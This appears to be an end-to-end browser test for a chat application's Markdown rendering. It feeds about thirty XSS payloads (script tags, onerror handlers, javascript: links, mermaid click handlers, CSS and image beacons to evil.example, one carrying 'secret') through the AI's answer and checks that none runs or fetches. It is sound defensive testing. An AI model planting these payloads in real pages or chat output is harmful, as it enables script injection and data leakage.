import { send, wholeAnswer } from '../support/chat.ts'
import { baseURL } from '../support/places.ts'
import { expect, test } from '../support/test.ts'

/** Known attacks through Markdown; each would set `ran` or contact another host. */
const payloads = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 2">',
  '<svg onload="window.ran = 3"><animate onbegin="window.ran = 4" attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.ran = 5</script>"></iframe>',
  '<iframe src="javascript:parent.ran = 6"></iframe>',
  '<details open ontoggle="window.ran = 7">x</details>',
  '<form action="https://evil.example/form"><button>send</button></form>',
  '<a href="javascript:window.ran = 8">html link</a>',
  '[link](javascript:window.ran=9)',
  '[link](JaVaScRiPt:window.ran=10)',
  '[link](java&#x09;script:window.ran=11)',
  '[link](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTEyPC9zY3JpcHQ+)',
  '[link](vbscript:window.ran=13)',
  '<javascript:window.ran=14>',
  '![image](https://evil.example/image.png?q=secret)',
  '![image][far]',
  '[far]: https://evil.example/far.png',
  '<img src="https://evil.example/html.png">',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<style>@import "https://evil.example/import.css";</style>',
  '<div style="background: url(https://evil.example/background.png)">x</div>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 15">',
  '$\\href{javascript:window.ran=16}{x}$ $\\includegraphics{https://evil.example/tex.png}$',
  '$\\htmlData{x=1}{y}\\url{javascript:window.ran=17}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.ran=18>"]; click A "javascript:window.ran=19"\n```',
  '```html\n<img src=x onerror="window.ran = 20">\n```',
  '| <img src=x onerror="window.ran = 21"> |\n|---|\n| ![x](//evil.example/table.png) |',
]

test('nothing in an answer runs, and nothing is fetched from elsewhere', async ({ page }) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(baseURL) && /^(https?|ftp):/.test(url)) elsewhere.push(url)
  })
  await page.goto('/')
  await send(page, `Say exactly: ${payloads.join('\n\n')}`)
  const answer = await wholeAnswer(page, 1)
  await expect(answer).toContainText('evil.example')
  const chat = await (await page.request.get(`/api/chats/${page.url().split('/').at(-1)}`)).json()
  const { text } = chat.messages[1].parts.at(-1)
  for (const payload of payloads) expect(text).toContain(payload)
  const links = answer.locator('a, [role=link]')
  for (const link of await links.all()) {
    const href = (await link.getAttribute('href')) ?? ''
    expect(href).toMatch(/^(https?:|mailto:|#|$)/)
  }
  // A style's address is fetched at layout, and a reload shows the stored text.
  await page.reload()
  await expect(page.getByTestId('message-assistant')).toContainText('evil.example')
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(page.url()).toContain(baseURL)
  expect(elsewhere).toEqual([])
})
